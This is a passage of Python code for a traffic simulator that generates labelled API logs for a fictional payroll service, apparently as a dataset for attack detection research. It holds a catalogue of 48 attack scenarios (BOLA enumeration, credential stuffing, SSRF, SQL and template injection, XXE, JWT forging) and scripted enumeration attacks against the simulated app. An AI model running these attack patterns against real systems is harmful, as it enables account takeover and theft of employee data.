        cl = C(u['home'], cl0.ua + ' widget', u['id'], dc='D-stale', headers={'Authorization': cl0.h.get('Authorization', 'Bearer x')})
        for _ in range(70):
            S.call(cl, 'GET', A + '/me/notifications')
            yield 900 + r.random() * 9
    for u, d in zip([u for u in people if u['phone'] and u['role'] == EMP][20:23], (2, 8, 12)):
        later(d, 18, widget(u, d, 18))

    def preview():
        while True:
            cl = C(f'192.0.2.{r.randint(160, 164)}', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.93 Safari/537.36', None, dc='D-preview')
            S.call(cl, 'GET', r.choice([f'{A}/expenses/{r.choice(list(app.claims)[-30:])}'] * 2 + [f'{A}/exports/{i}/file' for i in list(app.exports)[-1:]] + ([f'{A}/documents/{r.choice(list(app.docs)[-400:])}/content'] * 3 if S.now > S.local(10, 17) else [])))
            yield r.expovariate(1 / 9000)
    S.spawn(st + 7 * HOUR, preview())

    # two spouses at home: same address for another company's phone
    ph = [u for u in people if u['phone'] and u['role'] == EMP and u['home'] not in carrier]
    a = ph[3]
    b = next(u for u in ph[30:] if u['tid'] != a['tid'])
    for u in (a, b):
        u['phone'].xff, u['phone'].dc, u['home'] = a['home'], 'D-couple', a['home']
        for d in (1, 3, 5, 6, 9, 12, 14):
            later(d, r.gauss(20, .7), one(u, True))

    # --- kiosks
    def kiosk(t, k):
        cl = C(t['ip'], 'PaynestKiosk/2.3 (Linux; Android 11; SM-T510) okhttp/4.9.3', None, dc='D-kiosk')
        floor = [app.emp[i] for i in t['emps'] if not app.users[app.emp[i]['uid']]['app']][k::2]
        for d in range(days):
            if time.gmtime(st + d * DAY).tm_wday > 4 or d == 7:
                continue
            for h, way in ((6, 'In'), (14.1, 'Out')):
                yield max(1, S.local(d, h) - S.now)
                for e in r.sample(floor, min(len(floor), r.randint(3, 6))):
                    for n in range(1 + (r.random() < .1)):
                        pin = e['pin'] if n or r.random() > .08 else e['pin'][::-1]
                        rs = S.call(cl, 'POST', A + '/kiosk/login', js=dict(company=t['slug'], employeeNo=e['no'], pin=pin), ident=e['uid'])
                        yield r.uniform(2, 5)
                        if rs.st == 200:
                            break
                    if rs.st == 200:
                        tok = {'Authorization': 'Bearer ' + rs.body['accessToken']}
                        S.call(cl, 'POST', A + '/timeclock/punches', js=dict(direction=way), h=tok, ident=e['uid'])
                        if r.random() < (.6 if d == 11 else .06):
                            rs = S.call(cl, 'GET', A + '/me/documents?type=Payslip', h=tok, ident=e['uid'])
                            yield 4
                            if rs.st == 200 and rs.body['items']:
                                S.call(cl, 'GET', f'{A}/documents/{rs.body["items"][0]["id"]}/content', h=tok, ident=e['uid'])
                    yield r.uniform(4, 60)
    for t in (slugs['brightwell'], slugs['corvid'], slugs['merrow']):
        for k in (0, 1):
            S.spawn(st + 20 + k, kiosk(t, k))

    # --- HR on special days
    def hr_of(g):
        return next(u for u in people if u['tid'] == slugs[g]['id'] and u['role'] == HR)

    def bulkbank(u):
        cl = u['web']
        yield from opening(cl, u)
        for p in (1, 2):
            S.call(cl, 'GET', f'{A}/employees?page={p}&pageSize=25', dc='D-bulkbank')
            yield r.uniform(5, 15)
        for i in r.sample(app.ten[u['tid']]['emps'], 26):
            S.call(cl, 'GET', f'{A}/employees/{i}/bank-details', dc='D-bulkbank')
            yield r.uniform(10, 45)
            yield from signed(cl, u)
            e = app.emp[i]
            S.call(cl, 'PUT', f'{A}/employees/{i}/bank-details', js=dict(sortCode='04-00-' + e['sort'][-2:], accountNumber=e['acct'], accountName=f'{e["first"]} {e["last"]}'), dc='D-bulkbank')
            yield r.uniform(10, 45)
    later(4, 13.5, bulkbank(hr_of('merrow')))

    def offboard(u):
        cl = u['web']
        yield from opening(cl, u)
        v = [i for i in app.ten[u['tid']]['emps'] if not app.users[app.emp[i]['uid']].get('app')]
        for p in (1, 2):
            S.call(cl, 'GET', f'{A}/employees?page={p}&pageSize=25', dc='D-offboard')
            yield r.uniform(5, 15)
        for i in v[:9]:
            S.call(cl, 'GET', f'{A}/employees/{i}', dc='D-offboard')
            yield r.uniform(60, 300)
            yield from signed(cl, u)
            S.call(cl, 'PATCH', f'{A}/employees/{i}', body=b'[{"op":"replace","path":"/status","value":"Leaver"}]', ct='application/json-patch+json', dc='D-offboard')
    later(11, 14.5, offboard(hr_of('osprey')))

    def importer(u):
        cl = u['web']
        yield from opening(cl, u)
        rows = [f'{r.choice(GIVEN)},{r.choice(FAMILY)},{r.choice(TITLES)},{r.choice(DEPTS)},{r.randint(21, 50) * 1000}' for _ in range(14)]
        b, ct = multipart('new starters (final) v2.csv', 'text/csv', ('FirstName,LastName,JobTitle,Department,Salary\r\n' + '\r\n'.join(rows) + '\r\n').encode())
        S.call(cl, 'POST', A + '/imports/employees', body=b, ct=ct, dc='D-import')
        made = [app.employee(u['tid'], S.now, EMP, tuple(x.split(',')[:2]))[0]['id'] for x in rows]
        yield 5
        for p in (1, 2):
            S.call(cl, 'GET', f'{A}/employees?page={p}&pageSize=25', dc='D-import')
            yield 6
        for i in made:
            yield r.uniform(5, 40)
            S.call(cl, 'GET', f'{A}/employees/{i}', dc='D-import')
    later(9, 10, importer(hr_of('fenwick')))
    for k, g in enumerate(('brightwell', 'halden', 'corvid', 'osprey', 'quill', 'merrow')):
        def mine(g=g):
            u = hr_of(g)
            yield from opening(u['web'], u)
            yield from do_run(u['web'], u, late=True)
        later(9 if k % 2 else 10, 10 + k * .6, mine())

    # --- accountants and support
    acc = []
    for k in range(5):
        g = 'abacus' if k < 3 else 'ledgerman'
        own = [t['id'] for t in tl[5:18] if (t['number'] // 7 + k) % 3 == 0 or k == 4 and t['number'] % 2]
        f, l = r.choice(GIVEN), r.choice(FAMILY)
        u = app.user(f'{f}.{l}{k}@{g}.example'.lower().replace("'", ''), f'{f} {l}', slugs[g]['id'], ACC, None, [slugs[g]['id']] + own)
        acc.append(u)
        u['keep'] = k % 2 == 0
        u['web'] = cl = C(slugs[g]['ip'], WEB[k % 3], u['id'], dc='D-acct', headers=web_h(''))
        cl.mobile, cl.tags = False, {}
        u['clients'] = own

        def day(u=u, k=k):
            for d in range(days):
                yield max(1, S.local(d, r.uniform(8.8, 10)) - S.now)
                if time.gmtime(S.now).tm_wday > 4 or d == 7:
                    continue
                for _ in range(r.randint(2, 4) + (d in (8, 9, 10))):
                    ok = yield from signed(u['web'], u)
                    if not ok:
                        break
                    S.call(u['web'], 'GET', A + '/me')
                    rs = S.call(u['web'], 'GET', A + '/me/tenants')
                    if rs.st == 200:
                        t = r.choice(u['clients'])
                        yield r.uniform(5, 20)
                        x = r.random()
                        if x < .5:
                            yield from do_run(u['web'], u, t, late=d in (8, 9, 10) and r.random() < .7)
                        elif x < .75:
                            yield from do_people(u['web'], u, tid=t)
                        elif x < .9:
                            yield from do_export(u['web'], u, t)
                        else:
                            b = f'<?xml version="1.0"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><MsgId>ST{r.randint(1000, 9999)}</MsgId>{"<Ntry><Amt>12.00</Amt></Ntry>" * r.randint(2, 20)}</Document>'
                            S.call(u['web'], 'POST', A + '/imports/statements', body=b.encode(), ct='application/xml', h={'X-Tenant-Id': t})
                    yield r.expovariate(1 / 4500)
        S.spawn(st + 30 + k, day())

    def audit_dl(u):
        cl, t = u['web'], u['clients'][0]
        yield from signed(cl, u)
        h = {'X-Tenant-Id': t}
        S.call(cl, 'GET', A + '/me/tenants', dc='D-yearend')
        for p in (1, 2):
            S.call(cl, 'GET', f'{A}/employees?page={p}&pageSize=25', h=h, dc='D-yearend')
            yield 8
        for i in app.ten[t]['emps'][:40]:
            rs = S.call(cl, 'GET', f'{A}/employees/{i}/documents', h=h, dc='D-yearend')
            for d in [x for x in rs.body['items'] if x['type'] == 'Payslip'][:3] if rs.st == 200 else []:
                yield r.uniform(2, 8)
                S.call(cl, 'GET', f'{A}/documents/{d["id"]}/content', h=h, dc='D-yearend')
            yield r.uniform(3, 15)
            yield from signed(cl, u)
    later(3, 13, audit_dl(acc[0]))

    sup = []
    for k in range(3):
        u = app.user(f'support{k + 1}@paynest.example', f'Support {k + 1}', slugs['abacus']['id'], SUP)
        sup.append(u)
        u['keep'] = True
        cl = u['web'] = C(f'10.40.60.{20 + k}', WEB[k], u['id'], dc='D-support', headers=web_h(''))
        cl.mobile, cl.tags = False, {}

        def desk(u=u, k=k):
            for d in range(days):
                yield max(1, S.local(d, 8.5 + k * 2) - S.now)
                if time.gmtime(S.now).tm_wday > 4 or d == 7:
                    continue
                for _ in range(r.randint(2, 5)):
                    ok = yield from signed(u['web'], u)
                    if ok:
                        yield from do_people(u['web'], u, tid=r.choice(tl[:18])['id'])
                    yield r.expovariate(1 / 2800)
        S.spawn(st + 50 + k, desk())

    # --- partners
    key = lambda p: f'pn_live_{p}_{app.rng.getrandbits(160):040x}'
    pens, ben = key('pen'), key('ben')
    app.keys[pens] = dict(name='harbour-pensions', tids=[t['id'] for t in tl[:18:2]])
    app.keys[ben] = dict(name='perkline', tids=[t['id'] for t in tl[1:13:3]])
    app.clients['rota'] = dict(name='rotagrid', cid='rotagrid-prod', secret=f'{app.rng.getrandbits(200):050x}', tids=[slugs[g]['id'] for g in ('corvid', 'merrow', 'osprey', 'dovecote')])
    app.clients['dev'] = dict(name='jobbly-dev', cid='jobbly', secret=f'{app.rng.getrandbits(200):050x}', tids=[slugs['minnow']['id']])

    def pension():
        cl = C('192.0.2.17', 'RestSharp/110.2.0.0', 'partner:harbour-pensions', dc='D-pension', headers={'X-Api-Key': pens})
        for d in range(days):
            yield max(1, S.local(d, 6.5) - S.now)
            if time.gmtime(S.now).tm_wday > 4:
                continue
            rs = S.call(cl, 'GET', '/partner/v2/companies')
            for c in rs.body['data'] if rs.st == 200 else []:
                v = S.call(cl, 'GET', f'/partner/v2/companies/{c["id"]}/employees?updatedSince=2026-05-{17 + d if d < 14 else 31}').body['data']
                for x in v:
                    yield r.uniform(.3, 2)
                    S.call(cl, 'GET', f'/partner/v2/employees/{x["id"]}')
                yield r.uniform(2, 9)
                if d == 11:
                    S.call(cl, 'POST', '/partner/v2/contributions', js=dict(companyId=c['id'], items=[dict(employeeId=i, amount=round(app.emp[i]['salary'] * .05 / 12, 2)) for i in app.ten[c['id']]['emps'][:30]]))
    S.spawn(st + 60, pension())

    def perk():
        cl = C('192.0.2.44', 'axios/1.6.8', 'partner:perkline', headers={'X-Api-Key': ben})
        for d in range(days):
            for h in (5, 13):
                yield max(1, S.local(d, h) - S.now)
                for c in app.keys[ben]['tids']:
                    v = S.call(cl, 'GET', f'/partner/v2/companies/{c}/employees?updatedSince=d{d}h{h}').body
                    for x in (v or {}).get('data', []) if isinstance(v, dict) else []:
                        yield r.uniform(.2, 1)
                        S.call(cl, 'GET', f'/partner/v2/employees/{x["id"]}')
                if d == 8 and h == 13:
                    for c in app.keys[ben]['tids']:
                        for o in range(0, len(app.ten[c]['emps']), 50):
                            for x in S.call(cl, 'GET', f'/partner/v2/companies/{c}/employees?limit=50&offset={o}', dc='D-backfill').body['data']:
                                S.call(cl, 'GET', f'/partner/v2/employees/{x["id"]}', dc='D-backfill')
                                yield r.uniform(.4, 1.5)
    S.spawn(st + 61, perk())

    def rota(cl, cfg):
        exp = 0
        while True:
            if cl.xff == '192.0.2.70' and S.now > S.local(6, 7):
                cfg['secret'] = f'{r.getrandbits(200):050x}'
                cl.xff, cl.dc, cl.conn, exp = '192.0.2.73', 'D-keyrot', None, 0
            elif S.now > S.local(7, 7):
                cl.dc = None
            if S.now > exp - 120:
                rs = S.call(cl, 'POST', '/connect/token', form=dict(grant_type='client_credentials', client_id=cfg['cid'], client_secret=cfg['secret'], scope='partner.read partner.write'), h=NOAUTH)
                if rs.st == 200:
                    cl.h['Authorization'], exp = 'Bearer ' + rs.body['access_token'], S.now + 3600
            for c in cfg['tids']:
                S.call(cl, 'POST', '/partner/v2/timesheets', js=dict(companyId=c, entries=[dict(employeeId=i, hours=r.choice([4, 6, 7.5, 8])) for i in r.sample(app.ten[c]['emps'], min(5, len(app.ten[c]['emps'])))]))
                yield r.uniform(.5, 3)
            if int(S.now / HOUR) % 3 == 0:
                S.call(cl, 'GET', f'/partner/v2/companies/{r.choice(cfg["tids"])}/employees?limit=50&offset=0')
            yield 10200 + r.random() * 300
    S.spawn(st + 300, rota(C('192.0.2.70', 'Apache-HttpClient/5.2.1 (Java/17.0.9)', 'partner:rotagrid'), app.clients['rota']))

    def dev():
        cfg = app.clients['dev']
        for d, h in ((4, 13.5), (8, 14)):
            yield max(1, S.local(d, h) - S.now)
            cl = C('198.51.100.20', r.choice(['PostmanRuntime/7.37.3', 'python-requests/2.31.0']), None, dc='D-dev')
            for k in range(34):
                x = r.random()
                if 'Authorization' not in cl.h or x < .12:
                    rs = S.call(cl, 'POST', '/connect/token', form=dict(grant_type=r.choice(['client_credentials'] * 3 + ['password']), client_id=r.choice(['jobbly', 'jobbly', 'Jobbly']), client_secret=cfg['secret'] if r.random() < .7 else cfg['secret'][:-1]), h=NOAUTH)
                    if rs.st == 200:
                        cl.h['Authorization'] = 'Bearer ' + rs.body['access_token']
                elif x < .5:
                    S.call(cl, 'GET', r.choice(['/partner/v2/company', '/partner/v2/companies', '/partner/v1/companies', '/partner/v2/employees', '/api/partner/v2/companies', f'/partner/v2/companies/{cfg["tids"][0]}/employees', f'/partner/v2/companies/{{companyId}}/employees', '/partner/v2/companies/2153/employees']))
                elif x < .8:
                    i = r.choice(app.ten[cfg['tids'][0]]['emps'])
                    S.call(cl, 'GET', f'/partner/v2/employees/{i if r.random() < .7 else r.choice(["undefined", "1", "null"])}')
                else:
                    S.call(cl, 'POST', '/partner/v2/timesheets', js=r.choice([{}, {'entry': []}, {'entries': 'x'}, {'entries': [{'employeeId': app.ten[cfg['tids'][0]]['emps'][0], 'hours': 8}]}]))
                yield r.lognormvariate(4, .8)
    S.spawn(st + 62, dev())

    def bi():
        u = hr_of('halden')
        cl = C('203.0.113.140', 'Microsoft.Data.Mashup (https://go.microsoft.com/fwlink/?LinkID=304225)', u['id'], dc='D-bi')
        cl.mobile, cl.tags = False, {}
        u['bi'] = cl
        for d in range(days):
            yield max(1, S.local(d, 5.2) - S.now)
            c = r.randbytes(20).hex()
            app.sso[c] = u['id']
            rs = S.call(cl, 'POST', A + '/auth/sso/exchange', js=dict(code=c, state=uid(r)), h=NOAUTH)
            if rs.st != 200:
                continue
            take(cl, u, rs)
            S.call(cl, 'GET', '/odata/$metadata')
            for o in range(0, len(app.ten[u['tid']]['emps']), 20):
                S.call(cl, 'GET', '/odata/Employees?' + urlencode({'$select': 'Id,FirstName,LastName,Department,AnnualSalary,StartDate', '$top': 20, '$skip': o}))
                yield .4
    S.spawn(st + 63, bi())

    # --- identity providers
    scim = {}
    for k, g in enumerate(('brightwell', 'halden', 'osprey', 'lumen')):
        scim[g] = f'scim_{app.rng.getrandbits(220):055x}'
        if g != 'lumen':
            app.scimtok[scim[g]] = slugs[g]['id']

        def idp(g=g, k=k):
            okta = k % 2 == 0
            cl = C(f'192.0.2.{210 + k}', 'Okta SCIM Client 1.0.0' if okta else 'AzureADProvisioning/1.0', 'scim:' + g, dc='D-scim', headers={'Authorization': 'Bearer ' + scim[g], 'Accept': 'application/scim+json'})
            t = slugs[g]['id']
            if g == 'lumen':
                yield S.local(3, 15) - S.now
                app.scimtok[scim[g]] = t
                cl.dc = 'D-scimload'
                S.call(cl, 'GET', f'/scim/v2/Users?filter={quote(chr(117) + "serName eq " + chr(34) + uid(r) + chr(34))}&startIndex=1&count=1')
                for i in list(app.ten[t]['emps']) + [None] * 4:
                    m = app.emp[i]['email'] if i else f'{r.choice(GIVEN)}.{r.choice(WORDS)}@lumen.example'.lower()
                    rs = S.call(cl, 'GET', '/scim/v2/Users?filter=' + quote(f'userName eq "{m}"') + '&startIndex=1&count=100')
                    yield r.uniform(.3, 1)
                    if rs.body['totalResults']:
                        S.call(cl, 'PATCH', '/scim/v2/Users/' + rs.body['Resources'][0]['id'], js=dict(schemas=['urn:ietf:params:scim:api:messages:2.0:PatchOp'], Operations=[dict(op='replace', value=dict(active=True))]))
                    else:
                        S.call(cl, 'POST', '/scim/v2/Users', js=dict(schemas=['urn:ietf:params:scim:schemas:core:2.0:User'], userName=m, active=True, name=dict(givenName=m.split('.')[0].title(), familyName='Grant'), emails=[dict(value=m, primary=True)]))
                    yield r.uniform(.3, 1)
                cl.dc = 'D-scim'
            while True:
                v = [u for u in app.users.values() if u['tid'] == t]
                for u in r.sample(v, r.randint(1, 3)):
                    rs = S.call(cl, 'GET', '/scim/v2/Users?filter=' + quote(f'userName eq "{u["email"]}"') + '&startIndex=1&count=100')
                    yield r.uniform(.3, 1.5)
                    if r.random() < .12 and rs.st == 200 and rs.body['Resources']:
                        S.call(cl, 'PATCH', '/scim/v2/Users/' + u['id'], js=dict(schemas=['urn:ietf:params:scim:api:messages:2.0:PatchOp'], Operations=[dict(op='replace', value=dict(active=u['active']))]))
                if r.random() < .05:
                    m = f'{r.choice(GIVEN)}.{r.choice(WORDS)}{r.randint(1, 99)}@{g}.example'.lower()
                    S.call(cl, 'POST', '/scim/v2/Users', js=dict(schemas=['urn:ietf:params:scim:schemas:core:2.0:User'], userName=m, active=True, name=dict(givenName=m.split('.')[0].title(), familyName=r.choice(FAMILY)), emails=[dict(value=m, primary=True)]))
                yield 14400 + r.random() * 60 if okta else 9600 + r.random() * 30
        S.spawn(st + 70 + k, idp())

    # --- inside, monitors, the public
    def probe():
        cl = C('10.40.8.2', 'kube-probe/1.29', 'probe', dc='D-probe')
        k = 0
        while True:
            S.call(cl, 'GET', ('/health/live', '/health/ready')[k % 2])
            k += 1
            yield 1200
    S.spawn(st + 2, probe())

    def uptime():
        k = 0
        while True:
            cl = C(('192.0.2.31', '192.0.2.32', '198.51.100.9')[k % 3], 'Mozilla/5.0 (compatible; UptimeWatch/2.0; +https://uptime.example)', 'uptime', dc='D-uptime')
            S.call(cl, 'GET', '/health/ready' if k % 4 else '/public/v1/companies/brightwell/vacancies')
            k += 1
            yield 3600
    S.spawn(st + 40, uptime())

    def etl():
        cl = C('10.40.5.9', 'python-httpx/0.27.0', 'svc:etl', dc='D-night')
        for d in range(days):
            yield max(1, S.local(d, 2.5) - S.now)
            o = 0
            while o is not None:
                o = S.call(cl, 'GET', f'/internal/etl/employees?after={o}').body['last']
                yield 1
            S.call(cl, 'POST', '/internal/webhooks/dispatch', js=dict(day=d))
    S.spawn(st + 5, etl())

    def ops():
        for d in range(days):
            yield max(1, S.local(d, r.uniform(9, 16)) - S.now)
            if time.gmtime(S.now).tm_wday < 5 and r.random() < .7:
                cl = C('10.40.60.7', WEB[1], 'ops')
                S.call(cl, 'GET', '/hangfire')
                yield 9
                S.call(cl, 'GET', '/hangfire/jobs/' + r.choice(['failed', 'succeeded']))
    S.spawn(st + 6, ops())

    def crawler():
        cl = C('192.0.2.200', 'Mozilla/5.0 (compatible; Searchbot/2.1; +http://search.example/bot.html)', 'crawler', dc='D-crawl')
        S.call(cl, 'GET', '/robots.txt')
        while True:
            S.call(cl, 'GET', f'/public/v1/vacancies/{r.choice(list(app.vac))}' if r.random() < .9 else f'/public/v1/companies/{r.choice(TENANTS)[0]}/vacancies')
            yield r.uniform(1500, 7000)
    S.spawn(st + 41, crawler())

    def seeker(k):
        ua = r.choice(WEB)
        cl = C(f'198.18.{130 + k % 60}.{k % 200 + 9}', ua, None, headers=web_h(ua))
        g = r.choice(TENANTS)[0]
        rs = S.call(cl, 'GET', f'/public/v1/companies/{g}/vacancies')
        v = rs.body['items'] if rs.st == 200 else []
        for x in r.sample(v, min(len(v), r.randint(1, 3))):
            yield r.lognormvariate(3, .7)
            S.call(cl, 'GET', f'/public/v1/vacancies/{x["id"]}')
        if v and r.random() < .3:
            yield r.uniform(100, 500)
            f = r.choice(GIVEN)
            S.call(cl, 'POST', f'/public/v1/vacancies/{x["id"]}/applications', js=dict(name=f'{f} {r.choice(FAMILY)}', email=f'{f.lower()}{r.randint(1, 999)}@mail.example', coverLetter="I'd love to join; I have 5+ years & a clean licence -- see CV"))
    for k in range(days * 11):
        S.spawn(S.local(k // 11, r.gauss(17, 4) % 24), seeker(k))

    def trial(k):
        cl = C(f'198.18.{200 + k % 20}.{k + 7}', r.choice(WEB), None, dc='D-hiring', headers=web_h(''))
        w = r.choice(WORDS)
        j = dict(companyName=f'{w.title()} {r.choice(["Ltd", "& Sons", "Studio", "Trading"])}', email=f'{r.choice(GIVEN).lower()}@{w}{k}.example')
        if r.random() < .3:
            j['referralCode'] = r.choice(['OTTER-7Q2', 'TARN-K9D', 'LARCH-2MM'])
        rs = S.call(cl, 'POST', '/public/v1/trials', js=j)
        yield r.uniform(40, 400)
        if rs.st == 201 and r.random() < .85:
            if r.random() < .15:
                S.call(cl, 'POST', f'/public/v1/trials/{rs.body["trialId"]}/verify', js=dict(code='000000'))
                yield 15
            S.call(cl, 'POST', f'/public/v1/trials/{rs.body["trialId"]}/verify', js=dict(code=app.trials[rs.body['trialId']]))
    for k in range(30):
        S.spawn(S.local(r.randrange(days), r.gauss(13, 3) % 24), trial(k))

    if attacks:
        attack(S, app, dict(tools, people=people, acc=acc, hr_of=hr_of, pens=pens, ben=ben, scim=scim, slugs=slugs, rota=app.clients['rota'], carrier=carrier))
    S.run()
    return S


EPISODES = '''
Y01 bola_enumeration|API1:2023|actor|easy|employee counts payslip numbers upward with a script and own token, 170 PDFs of many companies in six minutes
Y02 bola_enumeration_slow|API1:2023|actor|hard|employee opens two or three foreign documents an hour by number with the app in waking hours for six days, between own use
Y03 bola_enumeration_denied|API1:2023|actor|medium|HR administrator counts employee numbers of other companies, all 404 by the tenant filter
Y04 bola_cross_tenant|API1:2023|actor|hard|accountant names companies in X-Tenant-Id that are no clients; the payroll controller lets it pass: runs and lines of five companies over three days
Y05 bola_write_bank_details|API1:2023|actor|hard|employee writes own account numbers into the bank details of six colleagues (ids from the directory) two days before pay day
Y06 account_takeover_payroll|API2:2023|actor|hard|payroll pirates: three phished employees, right password at the first go from new networks, bank details changed without the code, gone
Y07 bola_colleague_documents|API1:2023|actor|medium|solicitor's clerk walks the directory in a lunch break, lists the documents of 27 colleagues and takes the P60s
Y08 bola_enumeration_distributed|API1:2023|endpoint|hard|ten phished accounts at ten home addresses each take six to nine foreign documents a day, three days
Y09 credential_stuffing_distributed|API2:2023|endpoint|hard|150 addresses with one to three log-ins each over nine hours, pairs of another leak, two succeed
Y10 credential_stuffing|API2:2023|actor|easy|260 pairs in eight minutes from one address, half of them meet the limiter
Y11 password_spraying|API2:2023|endpoint|hard|one seasonal password against the staff of one company, five addresses, one try in some minutes, below the lock-out; one works
Y12 brute_force_mfa|API2:2023|actor|medium|password of an HR administrator known, codes tried five to a challenge, made-up X-Forwarded-For in front of the real one; not found
Y13 user_enumeration|API2:2023|actor|easy|the sign-in discovery tells whether an address is known: 300 asked in 15 minutes
Y14 user_enumeration_slow|API2:2023|endpoint|hard|the same, seven home addresses, one question in some ten minutes over a day and a half
Y15 brute_force_kiosk_pin|API2:2023|actor|medium|common PINs tried over all employee numbers of one company at the kiosk log-in from outside, some work, payslips are read
Y16 stolen_refresh_token|API2:2023|actor|hard|refresh token of a phone used from another network with the same app name; the owner's own is refused afterwards
Y17 leaked_api_key|API2:2023|actor|medium|key of the benefits partner used from a new network with another client, all employees of its companies
Y18 leaked_client_secret|API2:2023|actor|hard|client credentials of the rota partner used from another network with the same client name, a few employee records an hour for two days
Y19 stolen_scim_token|API2:2023|actor|hard|SCIM token of an identity provider used from another network: users listed, an administrator made, a manager's address changed, password reset, log-in
Y20 bfla_admin_function|API5:2023|actor|hard|employee gives the own account the role HrAdmin (no policy on the action), then reads salaries and exports the bank list
Y21 bfla_probe_denied|API5:2023|actor|medium|employee tries functions of HR and payroll, refused
Y22 mass_assignment|API3:2023|actor|hard|profile update carries annualSalary, taxCode and leaveBalance, which are bound
Y23 mass_assignment|API3:2023|actor|hard|four claims are created with status Approved and an approver, which no client sends
Y24 excessive_data_exposure_odata|API3:2023|actor|medium|manager expands User in the OData list: password hashes and stamps of all staff
Y25 exposure_filter_oracle|API3:2023|actor|hard|manager who may not see them finds salary and insurance number of directors by the count of $filter, 150 questions
Y26 zombie_unauthenticated_payslip|API9:2023|actor+endpoint|medium|the v0 payslip address answers without a token: 110 numbers in an hour
Y27 response_schema_growth_pii|API3:2023|endpoint|medium|from day 9 the directory shows birth date, insurance number, salary, address and account of everybody (no attacker; every call is labelled)
Y28 shadow_endpoint|API9:2023|endpoint|medium|a preview of payslip data appears without authentication on day 8 and is called from outside
Y29 internal_endpoint_external|API9:2023|actor+endpoint|medium|warehouse extract, job dashboard and a BACS file, used from inside until then, from outside
Y30 ssrf|API7:2023|actor|medium|webhooks on metadata and local addresses, the test function shows the answers
Y31 ssrf|API7:2023|actor|hard|logo import used as a port scanner of the inside: decimal addresses, wildcard names, differences in message and time
Y32 sqlmap_scan|API8:2023|actor|easy|sqlmap against the sort parameter of a report
Y33 sql_injection_manual|API8:2023|actor|medium|sort parameter by hand: broken, true and false order, delays
Y34 template_injection|API8:2023|actor|hard|Razor expressions in the letter preview of an HR account until configuration and environment come back
Y35 xxe_injection|API8:2023|actor|medium|statement import with external entities, win.ini comes back
Y36 jwt_forging|API2:2023|actor|medium|tokens with alg none, guessed keys, other role and tenant, kid tricks; all refused
Y37 content_discovery|API9:2023|actor|easy|ffuf looks for unknown paths, 320 in four minutes
Y38 content_discovery_slow|API9:2023|actor|hard|unknown paths, one in some twenty minutes for three days, three addresses
Y39 application_dos|API4:2023|actor+endpoint|medium|OData lists with nested expansion of reports hold the server two to nine seconds a call, 38 calls by two accounts
Y40 data_overconsumption|API4:2023|actor|medium|one account pulls the whole directory with pageSize=200 and every photo again and again through a night
Y41 exfil_export_slow|API6:2023|actor|hard|HR administrator who leaves takes small exports by department and documents, ten a day for five days
Y42 logic_expense_splitting|API6:2023|actor|hard|employee enters eight claims a day just under the limit of automatic approval, no receipt, five days
Y43 workflow_step_skip|API6:2023|actor|hard|HR clerk sets the own pay line and submits the run without the approval step
Y44 logic_referral_abuse|API6:2023|actor|medium|24 trial companies with one referral code, verified within seconds, three addresses, two days
Y45 logic_race_advance|API6:2023|actor|hard|salary advance drawn ten times at the same moment over parallel connections, two accounts
Y46 scalping_bot_shifts|API6:2023|actor|medium|a bot asks for open shifts every few seconds at the times they appear and takes the best at once, three days
Y47 coupon_brute_force|API6:2023|actor|easy|300 voucher codes tried by one account in 75 minutes
Y48 sequential_scrape_public|API6:2023|endpoint|medium|vacancies counted upward for the recruiters' addresses, nine addresses within a day
'''.strip().splitlines()


def attack(S, app, T):
    r, st, people, slugs = S.rng, S.start, T['people'], T['slugs']
    for l in EPISODES:
        a, o, sc, d, t = l.split('|')
        S.episode(*a.split(), o, sc, d, t)
    hr_of, NOAUTH, login, take = T['hr_of'], {'Authorization': None}, T['login'], T['take']
    local = S.local

    def at(d, h, g):
        S.spawn(S.local(d, h) + r.random() * 300, g)

    def who(g, n=0, role=EMP, f=lambda u: True):
        v = [u for u in people if u['tid'] == slugs[g]['id'] and u['role'] == role and f(u)]
        return v[n]

    def enter(u, ep, ua=None, src=None):
        """a client of its own for the attack, signed in as the user"""
        own = u.get('web') or u.get('phone')
        cl = C(src or own.xff, ua or own.ua, u['id'], ep=ep, headers=WEBH if 'Mozilla' in (ua or own.ua) else {})
        if u['sso']:
            c = r.randbytes(20).hex()
            app.sso[c] = u['id']
            S.call(cl, 'GET', A + '/auth/discover?email=' + quote(u['email']))
            yield 8
            rs = S.call(cl, 'POST', A + '/auth/sso/exchange', js=dict(code=c, state=uid(r)), h=NOAUTH)
            if rs.st == 200:
                take(cl, u, rs)
        else:
            yield from login(cl, u)
        yield 2
        return cl

    def fresh(cl, u):
        if S.now > getattr(cl, 'exp', 0) - 60:
            rs = S.call(cl, 'POST', A + '/auth/refresh', js=dict(refreshToken=cl.refresh), h=NOAUTH)
            if rs.st == 200:
                take(cl, u, rs)
            else:
                yield from login(cl, u)
            yield .3

    def y01():
        u = who('corvid', 3, f=lambda u: u['web'])
        cl = yield from enter(u, 'Y01', 'python-requests/2.31.0', '198.51.100.77')
        i = app.emp[u['emp']]['docs'][3]
        for k in range(170):
            S.call(cl, 'GET', f'{A}/documents/{i + k + 1}/content')
            yield r.uniform(1.2, 2.9)
    at(2, 22, y01())

    def y02():
        u = who('fenwick', 1, f=lambda u: u['phone'] and not u['phone'].dc)
        cl = u['phone']
        tried = app.emp[u['emp']]['docs'][-1]
        for d in range(4, 12):
            if d in (5, 6):
                continue
            yield max(1, S.local(d, 9) - S.now)
            while S.now < S.local(d, 20.5):
                ok = yield from T['signed'](cl, u)
                if not ok:
                    break
                if r.random() < .25:
                    yield from T['do_payslips'](cl, u)
                    yield r.uniform(10, 60)
                tried -= r.randint(1, 4)
                S.call(cl, 'GET', f'{A}/documents/{tried}/content', ep='Y02')
                yield r.expovariate(1 / 1500)
    at(4, 8.5, y02())

    def y03():
        u = who('pollard', 0, HR)
        cl = yield from enter(u, 'Y03', src='198.18.77.31')
        i = app.ten[u['tid']]['emps'][0] - 130
        for k in range(95):
            S.call(cl, 'GET', f'{A}/employees/{i + k}')
            yield r.uniform(2, 9)
    at(5, 15, y03())

    def y04():
        u = T['acc'][3]
        others = [t for t in slugs.values() if t['id'] not in u['tids'] and t['emps']]
        for d, n in ((2, 1), (3, 2), (4, 2)):
            yield max(1, S.local(d, 17) - S.now)
            cl = yield from enter(u, 'Y04')
            for _ in range(n):
                t = others.pop(r.randrange(len(others)))
                c = app.emp[t['emps'][3]]
                S.call(cl, 'GET', A + '/auth/discover?email=' + quote(c['email']))
                yield r.uniform(20, 80)
